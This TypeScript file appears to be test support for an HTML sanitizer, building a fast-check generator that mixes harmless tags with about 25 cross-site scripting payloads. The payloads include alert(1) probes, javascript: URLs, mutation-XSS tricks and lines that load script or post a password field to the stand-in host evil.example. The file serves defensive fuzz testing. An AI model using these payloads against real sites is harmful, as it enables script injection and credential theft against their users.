import { array, constantFrom, oneof, string } from 'fast-check';

/** Ways in which formatted text has been made to run something, and what is like them. */
const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<p onmouseover="alert(1)" style="background:url(javascript:alert(1))" class="x" id="y">word</p>',
  '<a href="javascript:alert(1)">word</a>',
  '<a href=" java\tscript:alert(1)">word</a>',
  '<a href="&#106;avascript:alert(1)">word</a>',
  '<a href="data:text/html,<script>alert(1)</script>">word</a>',
  '<a href="//evil.example">word</a>',
  '<a href="/customers">word</a>',
  '<a href="https://example.com/?a=1&b=2" target="_top" onclick="alert(1)">word</a>',
  '<svg onload=alert(1)><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>word</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<style>@import "//evil.example";</style>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="//evil.example"><input name=password></form>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></p><script>alert(1)</script></textarea>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<template><script>alert(1)</script></template>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<base href="//evil.example"><meta http-equiv=refresh content="0;url=javascript:alert(1)">',
] as const;

const harmless = [
  '<p>',
  '</p>',
  '<strong>',
  '</strong>',
  '<ul><li>',
  '</li></ul>',
  '<h2>',
  '</h2>',
  '<br>',
  '"',
  "'",
  '>',
  '<',
  '&lt;img&gt;',
  'word ',
] as const;

/** Formatted text as an attacker sends it: payloads whole, nested and cut, between ordinary tags and any letters. */
export const hostileHtml = array(
  oneof(
    constantFrom(...payloads),
    constantFrom(...harmless),
    constantFrom(...payloads).map((payload) => payload.slice(0, Math.ceil(payload.length / 2))),
    string({ unit: 'binary', maxLength: 8 }),
  ),
  { maxLength: 12 },
).map((parts) => parts.join(''));
